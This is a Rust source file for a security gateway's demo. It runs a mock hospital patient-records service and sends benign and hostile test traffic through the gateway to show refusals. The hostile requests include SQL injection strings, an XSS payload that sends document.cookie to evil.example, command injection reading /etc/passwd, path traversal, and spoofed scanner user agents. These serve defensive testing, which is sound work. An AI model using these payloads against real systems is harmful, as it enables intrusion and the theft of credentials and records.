//! The gateway's demo (issue 16): a small service for it to stand in front of
//! (a ward's patient records: JSON over HTTP on 127.0.0.1), the routes and
//! policies that expose it, and some traffic through it — benign calls,
//! attacks, a bad bot, unauthenticated and forbidden calls, a honeypot hit —
//! so that a new user of the console sees a gateway at work. The traffic
//! comes from the loopback addresses 127.0.0.2 to 127.0.0.5, so a honeypot
//! flag falls on a demo source, never on the console's own.

use std::convert::Infallible;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;

use gatehouse_gateway::config::{Classification, Exposure, GatewayConfig, RouteConfig};
use gatehouse_types::{CreateApiTokenRequest, CreatePolicyVersionRequest, Role};
use http_body_util::{BodyExt, Full};
use serde_json::json;

use crate::clock::Clock;
use crate::error::ServerError;
use crate::pipeline::SystemChange;
use crate::server::Prepared;

/// The marker of the demo's policies in a policy version.
const MARKER: &str = "demo.gateway";

/// Who may call the demo's routes: people and apps (role `user`) the partner
/// routes; services the internal ones; restricted routes only with two
/// factors, and no bot writes anything.
pub const POLICIES: &str = r#"
@id("demo.gateway.users_call_partner_routes")
@description("people and apps (role user) may call the partner routes")
permit (principal in Role::"user", action in Action::"call", resource is Route)
when { resource.exposure == "partner" };

@id("demo.gateway.services_call_internal_routes")
@description("services may call the internal routes")
permit (principal in Role::"service", action in Action::"call", resource is Route)
when { resource.exposure == "internal" };

@id("demo.gateway.restricted_needs_two_factors")
@description("restricted routes need a sign-in with two factors")
@reason("two factors are needed for restricted routes")
forbid (principal, action in Action::"call", resource is Route)
when { resource.classification == "restricted" && !context.posture.is_mfa };

@id("demo.gateway.no_bot_writes")
@description("a caller that looks like a bot writes nothing")
@reason("automated clients may not write")
forbid (principal, action == Action::"route.write", resource)
when { context.posture.bot != "human" };
"#;

fn route(
    name: &str,
    prefix: &str,
    upstream: SocketAddr,
    exposure: Exposure,
    classification: Classification,
) -> RouteConfig {
    RouteConfig {
        name: name.into(),
        path_prefix: prefix.into(),
        upstreams: vec![format!("http://{upstream}")],
        exposure,
        classification,
        description: String::new(),
        is_signup: false,
        is_anonymous: false,
        max_body_bytes: 64 * 1024,
        content_types: vec!["application/json".into()],
        rate_per_minute: None,
        identity_rate_per_minute: None,
    }
}

/// The demo's routes in front of `upstream`, the gateway on `listen`.
pub fn config(listen: SocketAddr, upstream: SocketAddr) -> GatewayConfig {
    let mut patients = route(
        "patients",
        "/api/patients",
        upstream,
        Exposure::Partner,
        Classification::Confidential,
    );
    patients.description = "Patients of the ward: read by clinicians' apps".into();
    let mut notes = route(
        "notes",
        "/api/notes",
        upstream,
        Exposure::Partner,
        Classification::Confidential,
    );
    notes.description = "Clinical notes: written by clinicians' apps".into();
    let mut records = route(
        "records",
        "/api/records",
        upstream,
        Exposure::Internal,
        Classification::Restricted,
    );
    records.description = "Full medical records: internal, two factors".into();
    let mut status = route(
        "status",
        "/public/status",
        upstream,
        Exposure::Public,
        Classification::Public,
    );
    status.description = "The ward's opening hours: anyone".into();
    status.is_anonymous = true;
    status.rate_per_minute = Some(60);
    GatewayConfig {
        listen,
        routes: vec![patients, notes, records, status],
        waf: Default::default(),
        waf_threads: 0,
        rate: Default::default(),
        honeypots: Default::default(),
        bots: Default::default(),
        upstream: Default::default(),
    }
}

/// The demo service on 127.0.0.1 (a free port): JSON answers, naming the
/// identity the gateway forwarded; it stops with the runtime.
pub async fn start_service() -> std::io::Result<SocketAddr> {
    let tcp = tokio::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    let addr = tcp.local_addr()?;
    tokio::spawn(async move {
        while let Ok((stream, _)) = tcp.accept().await {
            tokio::spawn(async move {
                let service = hyper::service::service_fn(
                    |request: hyper::Request<hyper::body::Incoming>| async move {
                        let (parts, body) = request.into_parts();
                        let is_identified = parts.headers.contains_key("x-gatehouse-identity");
                        let body = body
                            .collect()
                            .await
                            .map(|b| b.to_bytes())
                            .unwrap_or_default();
                        let answer = json!({
                            "service": "ward records (demo)",
                            "method": parts.method.as_str(),
                            "path": parts.uri.path(),
                            "identity_forwarded": is_identified,
                            "received_bytes": body.len(),
                            "patients": [{"id": 17, "name": "Zoë Ng"}, {"id": 18, "name": "Seán O'Brien"}],
                        });
                        let mut response =
                            hyper::Response::new(Full::new(bytes::Bytes::from(answer.to_string())));
                        response.headers_mut().insert(
                            http::header::CONTENT_TYPE,
                            http::HeaderValue::from_static("application/json"),
                        );
                        Ok::<_, Infallible>(response)
                    },
                );
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    Ok(addr)
}

/// Mints a short-lived token for the demo (recorded as the demo's doing).
async fn mint(
    prepared: &Prepared,
    clock: &dyn Clock,
    name: &str,
    role: Role,
) -> Result<String, ServerError> {
    let change = SystemChange {
        actor_kind: "operator",
        actor_id: "gatehouse demo".into(),
        actor_name: "local operator".into(),
        action: "api_tokens.create",
        sealer: prepared.sealer.clone(),
    };
    let request = CreateApiTokenRequest {
        name: name.into(),
        role,
        expires_in_seconds: Some(3600),
    };
    crate::tokens::create(prepared.store.as_ref(), clock, request, 3600, None, &change)
        .await
        .map(|created| created.secret)
        .map_err(|e| ServerError::Init(e.message.into_owned()))
}

/// What the traffic did.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Traffic {
    pub sent: usize,
    pub passed: usize,
    pub refused: usize,
}

fn http(fingerprint: &str, source: u8) -> Result<reqwest::Client, ServerError> {
    let verifier = Arc::new(
        gatehouse_client::PinnedVerifier::new(fingerprint)
            .map_err(|e| ServerError::Init(e.to_string()))?,
    );
    let tls = gatehouse_client::client_config(Some(verifier))
        .map_err(|e| ServerError::Init(e.to_string()))?;
    reqwest::Client::builder()
        .use_preconfigured_tls(tls)
        .local_address(IpAddr::V4(Ipv4Addr::new(127, 0, 0, source)))
        .user_agent("ward-app/2.3 (demo)")
        .timeout(std::time::Duration::from_secs(10))
        .build()
        .map_err(|e| ServerError::Init(e.to_string()))
}

/// The demo's credentials, minted before the server starts: an
/// administrator's (for the policies) and an app's (role `user`), each for an hour.
pub struct DemoCallers {
    admin: String,
    app: String,
    fingerprint: String,
}

impl std::fmt::Debug for DemoCallers {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("DemoCallers")
    }
}

/// Mints the demo's callers.
pub async fn callers(prepared: &Prepared, clock: &dyn Clock) -> Result<DemoCallers, ServerError> {
    Ok(DemoCallers {
        admin: mint(
            prepared,
            clock,
            "gatehouse demo (policies)",
            Role::Administrator,
        )
        .await?,
        app: mint(prepared, clock, "ward app (demo)", Role::User).await?,
        fingerprint: prepared.tls.fingerprint.clone(),
    })
}

/// Adds the demo's policies (once), then sends the demo's traffic through the
/// gateway at `gateway_url`, for the server at `server_url`.
pub async fn traffic(
    callers: &DemoCallers,
    server_url: &str,
    gateway_url: &str,
) -> Result<Traffic, ServerError> {
    let fingerprint = callers.fingerprint.clone();
    let app = callers.app.clone();
    let client = gatehouse_client::Client::builder(server_url)
        .pin_sha256(fingerprint.clone())
        .token(callers.admin.clone())
        .build()
        .map_err(|e| ServerError::Init(e.to_string()))?;
    let active = client
        .active_policies()
        .await
        .map_err(|e| ServerError::Init(e.to_string()))?;
    if !active.text.contains(MARKER) {
        client
            .create_policy_version(&CreatePolicyVersionRequest {
                text: format!("{}\n{POLICIES}", active.text),
                reason: "gatehouse demo: who may call the demo service behind the gateway".into(),
                base_version: active.version,
            })
            .await
            .map_err(|e| ServerError::Init(e.to_string()))?;
    }
    let url = |path: &str| format!("{gateway_url}{path}");
    let ward = http(&fingerprint, 2)?;
    let attacker = http(&fingerprint, 3)?;
    let scanner = http(&fingerprint, 4)?;
    let prober = http(&fingerprint, 5)?;
    let mut requests: Vec<reqwest::RequestBuilder> = Vec::new();
    for i in 0..12 {
        requests.push(
            ward.get(url(&format!("/api/patients/{}", 17 + i % 3)))
                .bearer_auth(&app),
        );
    }
    for note in [
        "Seán O'Brien: BP 120/80 -- stable",
        "# Ward round\n* check bloods\n* discharge Friday",
    ] {
        requests.push(
            ward.post(url("/api/notes"))
                .bearer_auth(&app)
                .json(&json!({"patient": 18, "text": note})),
        );
    }
    for _ in 0..3 {
        requests.push(ward.get(url("/public/status")));
    }
    requests.push(ward.get(url("/api/records/17")).bearer_auth(&app));
    requests.push(ward.get(url("/api/patients")));
    requests.push(
        attacker
            .get(url("/api/patients/17"))
            .bearer_auth("gh_stolen-or-forged"),
    );
    requests.push(
        attacker
            .get(url("/api/patients?id=1%27%20OR%20%271%27%3D%271"))
            .bearer_auth(&app),
    );
    requests.push(
        attacker
            .get(url(
                "/api/patients?sort=name%20UNION%20SELECT%20password%20FROM%20users--",
            ))
            .bearer_auth(&app),
    );
    requests.push(attacker.post(url("/api/notes")).bearer_auth(&app).json(
        &json!({"text": "<script>fetch('https://evil.example/?c='+document.cookie)</script>"}),
    ));
    requests.push(
        attacker
            .get(url("/api/patients?file=;cat%20/etc/passwd"))
            .bearer_auth(&app),
    );
    requests.push(
        attacker
            .get(url("/api/patients/%252e%252e/%252e%252e/etc/passwd"))
            .bearer_auth(&app),
    );
    requests.push(
        scanner
            .get(url("/api/patients"))
            .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    );
    requests.push(
        scanner
            .get(url("/api/patients"))
            .header("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
    );
    requests.push(prober.get(url("/.env")));
    requests.push(prober.get(url("/api/patients")).bearer_auth(&app));
    let mut traffic = Traffic::default();
    for request in requests {
        traffic.sent += 1;
        match request.send().await {
            Ok(r) if r.status().is_success() => traffic.passed += 1,
            Ok(_) => traffic.refused += 1,
            Err(e) => return Err(ServerError::Init(format!("demo traffic: {e}"))),
        }
    }
    Ok(traffic)
}
